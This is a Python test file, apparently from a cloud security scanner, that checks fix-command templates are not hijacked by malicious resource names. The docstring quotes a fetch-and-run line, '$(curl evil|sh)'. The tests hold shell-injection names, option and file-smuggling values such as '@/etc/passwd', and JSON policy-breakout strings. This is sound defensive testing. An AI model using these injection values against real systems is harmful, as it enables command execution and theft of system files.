"""Whoever names a resource chooses words of the command that somebody pastes to fix it.

They call a model ``$(curl evil|sh)``, or a name that a command line takes for an option or for a
file to send away. What they would gain: to run what they like with the rights of an administrator.
"""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

import msgspec
import pytest

from mlsec.core.enums import Category, Concern, Severity, Status
from mlsec.core.finding import Finding, Subject
from mlsec.core.fix_template import choice
from mlsec.render.command import fill_command

NAMES = (
    "$(touch pwned)",
    "`touch pwned`",
    "'; touch pwned; '",
    '"; touch pwned; "',
    "a\ntouch pwned\n",
    "a & touch pwned",
    "a|touch pwned",
    "a >pwned",
    "a\\",
    "!!",
    "~",
    "*",
    "{id}",
    "<name>",
    "it's",
    "größe ☃",
)
TEMPLATES = (
    "printf '<%s>' {name} end",
    "printf '<%s>' a/{name}/b end",
    "printf '<%s>' 'a {name} b' end",
    "printf '<%s>' \"a {name} b\" end",
    "printf '<%s>' \"$(printf %s {name})\" end",
    'printf \'<%s>\' "$(printf %s "a {name} b")" end',
    "printf '<%s>' \"$(printf %s 'a {name} b')\" end",
    "printf '<%s>' {bucket} end",
    "printf '<%s>' \"{items[].value}\" end",
)


def finding(name: str) -> Finding:
    return Finding(
        fingerprint="0" * 32,
        rule="s3/bucket-public-read",
        status=Status.FAIL,
        severity=Severity.HIGH,
        category=Category.ACCESS,
        concern=Concern.SECURITY,
        resource=Subject(id=name, type="aws.s3.bucket", provider="aws", scope="aws/1", name=name),
        message="",
        facts={"bucket": (name, name), "items[].value": (name, name)},
    )


def run(command: str, folder: Path) -> str:
    done = subprocess.run(  # noqa: S603 - what a person would paste
        ["/bin/sh", "-c", command], cwd=folder, capture_output=True, text=True, check=False
    )
    return done.stdout


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_one_word_of_the_command_or_a_choice(
    name: str, template: str, tmp_path: Path
) -> None:
    command = fill_command(template, finding(name))
    if not any(choice(hole) in command for hole in ("name", "bucket", "items[].value")):
        assert run(command, tmp_path).endswith("<end>")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_stands_alone_arrives_whole(name: str, tmp_path: Path) -> None:
    command = fill_command("printf %s {name}", finding(name))
    assert run(command, tmp_path) == shlex.split(command, posix=True)[2]


@pytest.mark.parametrize("name", ["--profile=evil", "-x", "@/etc/passwd", "file:///etc/passwd"])
def test_a_name_that_a_command_line_would_act_on_is_left_out(name: str) -> None:
    assert fill_command("aws s3 rb {name}", finding(name)) == "aws s3 rb <name>"


@pytest.mark.parametrize("name", ['x","Effect":"Allow', "x,Key=Owner", "x}", "a=b"])
@pytest.mark.parametrize("quote", ["'", '"', ""])
def test_a_name_adds_nothing_to_a_structure(name: str, quote: str) -> None:
    command = f"aws x --y {quote}Key=A,Value={{name}}{quote}"
    assert fill_command(command, finding(name)) == command.replace("{name}", "<name>")


def test_a_choice_that_was_not_made_runs_nothing(tmp_path: Path) -> None:
    empty = msgspec.structs.replace(finding("x"), facts={})
    command = fill_command("touch pwned --id {bucket} --name y", empty)
    assert command == "touch pwned --id <bucket> --name y"
    run(command, tmp_path)
    assert list(tmp_path.iterdir()) == []
